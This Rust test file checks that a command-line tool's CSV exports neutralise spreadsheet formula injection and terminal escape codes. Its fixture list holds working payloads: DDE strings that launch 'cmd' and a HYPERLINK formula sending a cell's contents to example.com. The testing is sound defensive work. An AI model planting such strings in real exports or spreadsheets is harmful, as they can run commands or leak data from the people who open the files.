//! CSV that a spreadsheet opens: no cell of it calculates anything.

use crate::lab::Lab;

/// What spreadsheets and terminals could fall for.
const TEXTS: [&str; 9] = [
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\u{1b}[2Jwiped\u{7}",
];

/// What drives a terminal is refused where it is typed.
fn is_plain(text: &str) -> bool {
    !text.contains('\u{1b}')
}

/// Every cell of every answer in CSV.
fn cells(lab: &Lab, line: &str) -> Vec<String> {
    let told = lab.run(line).exits(0);
    let mut reader =
        ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(told.out.as_bytes());
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

#[test]
fn no_answer_has_a_formula() {
    let lab = Lab::new();
    lab.run("character create Vex --reason new").exits(0);
    let mut names = 0;
    for (at, text) in TEXTS.iter().enumerate() {
        let reason = format!("--reason={text}");
        let ticket = format!("--ticket={text}");
        let told = lab.run_words(&["character", "grant", "Vex", "--currency", "5", &reason, &ticket]);
        told.exits(if is_plain(text) { 0 } else { 2 });
        // Most of these are no names; those that are must be harmless.
        let name = format!("{text}{at}");
        let created = lab.run_words(&["character", "create", "--reason", "try", "--", &name]);
        names += usize::from(created.code == 0);
    }
    assert!(names > 0, "names with a sign before them");
    let mut defused = 0;
    for line in [
        "db export events --format csv",
        "db export characters --format csv",
        "history --format csv",
        "character list --format csv",
        "character show Vex --format csv",
        "leaderboard paragon --format csv",
    ] {
        for cell in cells(&lab, line) {
            let is_number = cell.parse::<f64>().is_ok();
            let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
            assert!(is_number || !begins, "{line}: {cell:?}");
            assert!(!cell.contains(|c: char| c.is_control() && !"\t\r\n".contains(c)), "{line}: {cell:?}");
            defused += usize::from(cell.starts_with('\''));
        }
    }
    assert!(defused > 20, "{defused}");
    // What is exported in full is what was said.
    let log = lab.run("db export events").exits(0).out;
    for text in TEXTS.into_iter().filter(|text| is_plain(text)) {
        let json = serde_json::to_string(text.trim()).unwrap();
        assert!(log.contains(&format!("\"reason\":{json},\"ticket\":{json}")), "{text:?}");
    }
}
